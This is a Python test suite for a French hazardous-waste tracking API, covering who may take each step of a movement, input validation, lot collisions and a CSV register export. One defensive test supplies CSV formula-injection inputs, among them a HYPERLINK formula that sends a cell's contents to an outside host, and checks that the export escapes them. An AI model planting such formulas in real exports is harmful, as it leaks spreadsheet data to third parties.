"""Movements of waste and their register as frontends meet them: over HTTP, on a real database and broker."""

import asyncio
import csv
import io
from datetime import datetime, timedelta
from typing import Any, Final

import pytest
from partners import FOUNDRY, MILL, Partners, done, member, problem, serving

from companies import register
from contracts import sample_siret
from contracts.model import PARIS
from devstack.issuer import Issuer
from devstack.prepared import prepare
from service import clock

pytestmark = pytest.mark.anyio

MOVEMENTS: Final = "/companies/v1/waste-movements"
CARRIER: Final = sample_siret(2)
SITE: Final = sample_siret(3)


def slip(lot: str = "CUVE-02", **changes: Any) -> dict[str, Any]:
    return {
        "company": FOUNDRY,
        "carrier": CARRIER,
        "treatment_site": SITE,
        "waste": "12 01 09*",
        "description": "Émulsions d'usinage",
        "lot": lot,
        "slip": f"BSD-2024-{lot}",
        "treatment_planned": "R3",
        "tonnes_planned": 12.5,
        "on": "2024-03-01",
        **changes,
    }


WAY: Final[dict[str, tuple[str, dict[str, Any]]]] = {
    "seal": (FOUNDRY, {"on": "2024-03-02"}),
    "sign": (FOUNDRY, {"on": "2024-03-03"}),
    "send": (CARRIER, {"on": "2024-03-04", "tonnes_sent": 12.4}),
    "receive": (SITE, {"on": "2024-03-05", "tonnes_received": 12.1}),
    "accept": (SITE, {"on": "2024-03-06"}),
    "process": (SITE, {"on": "2024-03-20", "treatment": "R3", "mode": "recycling", "tonnes_processed": 12}),
}
"""Who takes which step of a movement."""


async def draft(partners: Partners, lot: str = "CUVE-02", **changes: Any) -> str:
    """The path of a new movement."""
    body = slip(lot, **changes)
    made = done(await partners.post(MOVEMENTS, body, by="company", of=body["company"]), 201)
    return f"{MOVEMENTS}/{made['id']}"


async def lead(partners: Partners, path: str, to: str, **changes: Any) -> dict[str, Any]:
    """Takes the steps of a movement up to one, which is asked with these changes."""
    movement = {}
    for step, (of, body) in WAY.items():
        asked = {**body, **(changes if step == to else {})}
        movement = done(await partners.post(f"{path}/{step}", asked, by="company", of=of))
        if step == to:
            break
    return movement


async def test_each_of_three_companies_takes_its_own_steps(partners: Partners) -> None:
    await member(partners)
    path = await draft(partners)
    for step, (of, body) in WAY.items():
        for other in {FOUNDRY, CARRIER, SITE} - {of}:
            refused = problem(
                await partners.post(f"{path}/{step}", body, by="company", of=other), 403, "not-your-record"
            )
            assert "that the record names as its" in refused["detail"]
        problem(await partners.post(f"{path}/{step}", body, by="epci"), 403, "role-missing")
        problem(await partners.post(f"{path}/{step}", body, by="company", of=MILL), 404, "not-found")
        before = done(await partners.get(path, by="company", of=of))
        assert step in before["allowed"]
        movement = done(await partners.post(f"{path}/{step}", body, by="company", of=of))
    assert (movement["status"], movement["waste"], movement["is_final"]) == ("processed", "120109*", True)
    assert (movement["tonnes_sent"], movement["tonnes_received"], movement["tonnes_difference"]) == (12.4, 12.1, -0.3)
    assert movement["allowed"] == []
    by_epci = done(await partners.get(path, by="epci"))
    assert by_epci["allowed"] == ["correct-tonnes", "correct-day", "correct-treatment"]
    corrected = {"weighing": "processed", "tonnes": 12.05, "reason": "weighing_error"}
    assert done(await partners.post(f"{path}/correct-tonnes", corrected, by="epci"))["tonnes_processed"] == 12.05
    problem(await partners.post(f"{path}/correct-tonnes", corrected, by="company", of=SITE), 403, "role-missing")


async def test_a_day_is_corrected_and_the_register_goes_by_it(partners: Partners) -> None:
    await member(partners)
    await lead(partners, path := await draft(partners), "receive")
    correct = {"step": "sent", "day": "2024-03-03", "reason": "typing_error"}
    problem(await partners.post(f"{path}/correct-day", correct, by="company", of=CARRIER), 403, "role-missing")
    corrected = done(await partners.post(f"{path}/correct-day", correct, by="epci"))
    assert (corrected["sent_on"], corrected["effective_on"]) == ("2024-03-03", "2024-03-05")
    (row,) = rows((await partners.get(f"{MOVEMENTS}/register", by="epci", to="2024-03-03")).text)
    assert row["sent_on"] == "2024-03-03"
    for step, day, slug, pointer in (
        ("sent", "2024-03-06", "day-after-next-step", "#/day"),
        ("received", "2024-03-02", "day-before-previous-step", "#/day"),
        ("processed", "2024-03-20", "step-not-taken", "#/step"),
    ):
        wrong = {**correct, "step": step, "day": day}
        refused = problem(await partners.post(f"{path}/correct-day", wrong, by="epci"), 409, slug)
        assert [fault["pointer"] for fault in refused["errors"]] == [pointer]


async def test_a_company_writes_slips_for_itself_alone(partners: Partners) -> None:
    await member(partners)
    for other in (CARRIER, SITE, MILL):
        said = problem(await partners.post(MOVEMENTS, slip(), by="company", of=other), 403, "not-your-record")
        assert [fault["pointer"] for fault in said["errors"]] == ["#/company"]
    problem(await partners.post(MOVEMENTS, slip(), by="network"), 403, "role-missing")
    stranger = slip(company=MILL)
    refused = problem(await partners.post(MOVEMENTS, stranger, by="company", of=MILL), 409, "not-a-member")
    assert refused["parameters"] == {"company": MILL, "status": "unknown"}


async def test_the_three_on_the_slip_and_those_who_answer_for_waste_read_it_and_nobody_else(partners: Partners) -> None:
    await member(partners)
    path = await draft(partners)
    for siret in (FOUNDRY, CARRIER, SITE):
        assert done(await partners.get(path, by="company", of=siret))["lot"] == "CUVE-02"
        assert len(done(await partners.get(MOVEMENTS, by="company", of=siret, status="draft"))["items"]) == 1
        assert done(await partners.get(f"{path}/events", by="company", of=siret))["items"]
    for role in ("network", "town_hall", "epci", "ops"):
        assert done(await partners.get(path, by=role))["lot"] == "CUVE-02"
    for reader in ({"by": "company", "of": MILL}, {"by": "region"}, {"by": "school"}):
        problem(await partners.get(path, **reader), 404, "not-found")
        assert done(await partners.get(MOVEMENTS, **reader, waste="120109*"))["items"] == []


async def test_of_fifty_at_once_one_has_the_lot_and_the_others_are_told_which(partners: Partners) -> None:
    await member(partners)
    answers = await asyncio.gather(
        *(partners.post(MOVEMENTS, slip(slip=f"BSD-{n}"), by="company", of=FOUNDRY) for n in range(50))
    )
    (made,) = [answer.json() for answer in answers if answer.status_code == 201]
    refused = [answer for answer in answers if answer.status_code != 201]
    assert len(refused) == 49
    for answer in refused:
        said = problem(answer, 409, "lot-in-movement")
        assert said["collides_with"] == made["id"]
        assert [fault["pointer"] for fault in said["errors"]] == ["#/lot"]
    path = f"{MOVEMENTS}/{made['id']}"
    other = await draft(partners, "BENNE-07")
    onto = {name: value for name, value in slip(slip="BSD-2024-X").items() if name != "company"}
    taken = problem(await partners.post(f"{other}/revise", onto, by="company", of=FOUNDRY), 409, "lot-in-movement")
    assert taken["collides_with"] == made["id"]
    done(await partners.post(f"{path}/cancel", {"reason": "postponed"}, by="company", of=FOUNDRY))
    done(await partners.post(f"{other}/revise", onto, by="company", of=FOUNDRY))


async def test_a_lot_is_free_again_once_its_movement_is_over_and_its_number_is_not(partners: Partners) -> None:
    await member(partners)
    await lead(partners, await draft(partners), "process")
    again = await partners.post(MOVEMENTS, slip(), by="company", of=FOUNDRY)
    assert problem(again, 409, "slip-taken")["errors"][0]["pointer"] == "#/slip"
    path = await draft(partners, slip="BSD-2")
    await lead(partners, path, "receive")
    done(await partners.post(f"{path}/refuse", {"reason": "not_permitted"}, by="company", of=SITE))
    await draft(partners, slip="BSD-3")


@pytest.mark.parametrize(
    ("changes", "code", "pointer"),
    [
        ({"waste": "120109"}, "waste-code", "#/waste"),
        ({"waste": "999999"}, "waste-code", "#/waste"),
        ({"waste": "bilge"}, "waste-code", "#/waste"),
        ({"treatment_planned": "R14"}, "treatment-code", "#/treatment_planned"),
        ({"treatment_planned": "D6"}, "treatment-code", "#/treatment_planned"),
        ({"tonnes_planned": 0}, "tonnes", "#/tonnes_planned"),
        ({"tonnes_planned": 1000.5}, "tonnes", "#/tonnes_planned"),
        ({"tonnes_planned": "12"}, "tonnes", "#/tonnes_planned"),
        ({"carrier": "123"}, "siret", "#/carrier"),
        ({"lot": "CUVE n°2", "slip": "BSD-2"}, "reference", "#/lot"),
        ({"slip": "xx"}, "slip-number", "#/slip"),
        ({"on": "2150-01-01"}, "day-out-of-range", "#/on"),
    ],
)
async def test_what_no_slip_says_is_told_by_its_field(
    partners: Partners, changes: dict[str, Any], code: str, pointer: str
) -> None:
    answer = await partners.post(MOVEMENTS, slip(**changes), by="company", of=FOUNDRY, Accept_Language="fr")
    assert answer.status_code == 422
    (error,) = answer.json()["errors"]
    assert (error["code"], error["pointer"]) == (code, pointer)


@pytest.mark.parametrize(
    ("changes", "slug", "pointer", "french"),
    [
        ({"slip": None}, "slip-missing", "#/slip", "est un déchet dangereux"),
        ({"on": "2099-12-31"}, "on-in-the-future", "#/on", "est après aujourd'hui"),
    ],
)
async def test_what_the_rules_refuse_points_to_its_field_too(
    partners: Partners, changes: dict[str, Any], slug: str, pointer: str, french: str
) -> None:
    await member(partners)
    answer = await partners.post(MOVEMENTS, slip(**changes), by="company", of=FOUNDRY, Accept_Language="fr")
    (error,) = problem(answer, 409, slug)["errors"]
    assert (error["code"], error["pointer"]) == (slug, pointer)
    assert french in error["detail"]


@pytest.mark.parametrize(
    ("treatment", "mode", "slug", "french"),
    [
        ("R1", "recycling", "mode-not-allowed", "R1 relève de : Valorisation énergétique ; et non de : Recyclage"),
        ("R4", None, "mode-missing", "R4 est un traitement final"),
        ("D13", "disposal", "treatment-never-final", "D13 n'est jamais un traitement final"),
    ],
)
async def test_a_mode_is_one_of_the_treatment(
    partners: Partners, treatment: str, mode: str | None, slug: str, french: str
) -> None:
    await member(partners)
    path = await draft(partners)
    await lead(partners, path, "accept")
    body = {"treatment": treatment, "mode": mode, "tonnes_processed": 1}
    answer = await partners.post(f"{path}/process", body, by="company", of=SITE, Accept_Language="fr")
    said = problem(answer, 409, slug)
    assert french in said["detail"]
    assert said["errors"][0]["pointer"] == "#/mode"


async def test_movements_are_found_by_what_a_screen_asks(partners: Partners) -> None:
    await member(partners)
    await member(partners, MILL, zone="za-avenir")
    far = await draft(partners, "A")
    await lead(partners, far, "process")
    await draft(partners, "B", waste="120101", slip=None, description="Copeaux d'acier")
    sent = await draft(partners, "C", company=MILL, carrier=MILL)
    for step, of in (("seal", MILL), ("sign", MILL), ("send", MILL)):
        done(await partners.post(f"{sent}/{step}", {**WAY[step][1], "on": "2024-03-08"}, by="company", of=of))

    async def lots(**asked: Any) -> list[str]:
        return [item["lot"] for item in done(await partners.get(MOVEMENTS, by="epci", **asked))["items"]]

    assert await lots(company=MILL) == await lots(zone="za-avenir") == await lots(carrier=MILL) == ["C"]
    assert await lots(hazardous="true", sort="drafted_on") == ["A", "C"]
    assert await lots(waste="120101") == await lots(q="copeaux") == await lots(status="draft") == ["B"]
    assert await lots(treatment="R3", treatment_site=SITE) == ["A"]
    assert await lots(sent_on_from="2024-03-04", sent_on_to="2024-03-08", sort="-sent_on") == ["C", "A"]
    assert await lots(q="BSD-2024-A") == ["A"]
    assert await lots(late="true") == []


# The register


def rows(table: str) -> list[dict[str, str]]:
    return [*csv.DictReader(io.StringIO(table))]


async def test_the_register_has_what_was_sent_in_the_order_of_the_days(partners: Partners) -> None:
    await member(partners)
    await lead(partners, await draft(partners, "A"), "process")
    await lead(
        partners, await draft(partners, "B", waste="120101", slip=None, carrier=CARRIER), "send", on="2024-03-03"
    )
    await draft(partners, "C")
    answer = await partners.get(f"{MOVEMENTS}/register", by="company", of=FOUNDRY)
    assert answer.status_code == 200
    assert answer.headers["content-type"].partition(";")[0] == "text/csv"
    assert answer.headers["cache-control"] == "private, no-cache"
    assert answer.text.splitlines()[0] == ",".join(register.COLUMNS)
    first, second = rows(answer.text)
    assert (first["sent_on"], first["waste"], first["slip"], first["status"]) == ("2024-03-03", "120101", "", "sent")
    assert (first["treatment"], first["mode"]) == ("R3", "")
    assert {name: second[name] for name in register.COLUMNS if name != "id"} == {
        "sent_on": "2024-03-04",
        "description": "Émulsions d'usinage",
        "waste": "120109*",
        "waste_name": "émulsions et solutions d'usinage sans halogènes",
        "slip": "BSD-2024-A",
        "tonnes_sent": "12.4",
        "producer": FOUNDRY,
        "producer_name": "Fonderie de la Théols",
        "producer_commune": "36088",
        "carrier": CARRIER,
        "carrier_name": "",
        "treatment_site": SITE,
        "treatment_site_name": "",
        "treatment": "R3",
        "mode": "recycling",
        "status": "processed",
    }
    assert done(await partners.get(f"{MOVEMENTS}/{second['id']}", by="epci"))["lot"] == "A"


@pytest.mark.parametrize(
    ("description", "written"),
    [
        ('=HYPERLINK("http://example.org/?"&A1)', '\'=HYPERLINK("http://example.org/?"&A1)'),
        ("+33 2 54 00 00 00", "'+33 2 54 00 00 00"),
        ("-1 : copeaux", "'-1 : copeaux"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("Copeaux = acier", "Copeaux = acier"),
        ("'copeaux'", "'copeaux'"),
    ],
)
async def test_a_spreadsheet_computes_nothing_that_people_wrote(
    partners: Partners, description: str, written: str
) -> None:
    await member(partners)
    await lead(partners, await draft(partners, description=description), "send")
    (row,) = rows((await partners.get(f"{MOVEMENTS}/register", by="epci")).text)
    assert (row["description"], row["tonnes_sent"]) == (written, "12.4")


async def test_a_french_spreadsheet_opens_the_register_as_it_is(partners: Partners) -> None:
    await member(partners)
    await lead(partners, await draft(partners, "A", description="=1+1"), "process")
    english = await partners.get(f"{MOVEMENTS}/register", by="epci")
    answer = await partners.get(f"{MOVEMENTS}/register", by="epci", language="fr-FR,fr;q=0.9")
    assert [each.headers["content-language"] for each in (english, answer)] == ["en", "fr"]
    assert {each.strip() for each in answer.headers["vary"].split(",")} >= {"Authorization", "Accept-Language"}
    assert answer.content.startswith(b"\xef\xbb\xbf")
    (row,) = csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";")
    assert [*row] == [*register.COLUMNS.values()]
    (same,) = rows(english.text)
    french = {"description": "'=1+1", "tonnes_sent": "12,4", "mode": "Recyclage", "status": "Traité"}
    assert [*row.values()] == [*{**same, **french}.values()]


async def test_the_register_holds_only_what_its_reader_may_see(
    partners: Partners, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(register, "AT_ONCE", 2)
    await member(partners)
    await member(partners, MILL)
    for number, (of, site) in enumerate([(FOUNDRY, SITE), (FOUNDRY, MILL), (MILL, SITE), (FOUNDRY, SITE)]):
        path = await draft(partners, f"L{number}", company=of, treatment_site=site)
        for step, by in (("seal", of), ("sign", of), ("send", CARRIER)):
            body = {**WAY[step][1], "on": f"2024-03-{10 + number}"}
            done(await partners.post(f"{path}/{step}", body, by="company", of=by))

    async def slips(by: str, of: str | None = None, **asked: str) -> list[str]:
        answer = await partners.get(f"{MOVEMENTS}/register", by=by, of=of, **asked)
        assert answer.status_code == 200, answer.text
        return [row["slip"] for row in rows(answer.text)]

    assert (
        await slips("epci")
        == await slips("company", CARRIER)
        == ["BSD-2024-L0", "BSD-2024-L1", "BSD-2024-L2", "BSD-2024-L3"]
    )
    assert await slips("company", FOUNDRY) == ["BSD-2024-L0", "BSD-2024-L1", "BSD-2024-L3"]
    assert await slips("company", MILL) == ["BSD-2024-L1", "BSD-2024-L2"]
    assert await slips("company", MILL, company=FOUNDRY) == ["BSD-2024-L1"]
    assert await slips("company", SITE, company=MILL) == ["BSD-2024-L2"]
    assert await slips("epci", company=FOUNDRY, **{"from": "2024-03-11", "to": "2024-03-13"}) == [
        "BSD-2024-L1",
        "BSD-2024-L3",
    ]
    assert await slips("epci", to="2024-03-09") == await slips("school") == await slips("company") == []


@pytest.mark.parametrize(
    ("asked", "parameters"),
    [
        ({"from": "2024-03-02", "to": "2024-03-01"}, "to"),
        ({"from": "March"}, "from"),
        ({"company": "123"}, "company"),
        ({"producer": FOUNDRY}, "producer"),
        ({"producer": FOUNDRY, "to": "March", "company": "123", "first": "2024-03-02"}, "producer first company to"),
    ],
)
async def test_a_register_that_cannot_be_asked_for_is_told_by_its_parameters(
    partners: Partners, asked: dict[str, str], parameters: str
) -> None:
    answer = await partners.get(f"{MOVEMENTS}/register", by="epci", **asked)
    assert answer.status_code == 422
    assert [error["parameter"] for error in answer.json()["errors"]] == parameters.split()


async def test_the_register_needs_the_scope_and_is_not_in_the_way_of_records(partners: Partners) -> None:
    answer = await partners.post(f"{MOVEMENTS}/register", by="epci")
    problem(answer, 405, "method-not-allowed")
    problem(await partners.get(f"{MOVEMENTS}/registers", by="epci"), 404, "not-found")


# What is due, with a worker


@pytest.mark.slow
async def test_what_is_not_processed_within_a_month_is_late_to_those_who_answer_for_it(
    database: str, kafka: str, issuer: Issuer, monkeypatch: pytest.MonkeyPatch
) -> None:
    await prepare(database)
    then = datetime.now(PARIS) - timedelta(days=40)
    async with serving(database, issuer, kafka=kafka) as partners:
        await member(partners)
        path, other = await draft(partners, "A"), await draft(partners, "B")
        monkeypatch.setattr(clock, "now", lambda: then)
        accepted = await lead(partners, path, "accept", on=then.date().isoformat())
        monkeypatch.undo()
        assert accepted["late_from"] == (then.date() + timedelta(days=31)).isoformat()
        await lead(partners, other, "accept")
        async with asyncio.timeout(30):
            while True:
                late = done(await partners.get(MOVEMENTS, by="epci", late="true"))["items"]
                if late:
                    break
                await asyncio.sleep(0.05)
        assert [item["lot"] for item in late] == ["A"]
        last = done(await partners.get(f"{path}/events", by="epci"))["items"][-1]
        assert (last["type"], last["metadata"]["actor"]) == ("WasteOverdue", "platform")
        treated = {**WAY["process"][1], "on": clock.today().isoformat()}
        assert done(await partners.post(f"{path}/process", treated, by="company", of=SITE))["late"] is False
        assert done(await partners.get(MOVEMENTS, by="epci", late="true"))["items"] == []
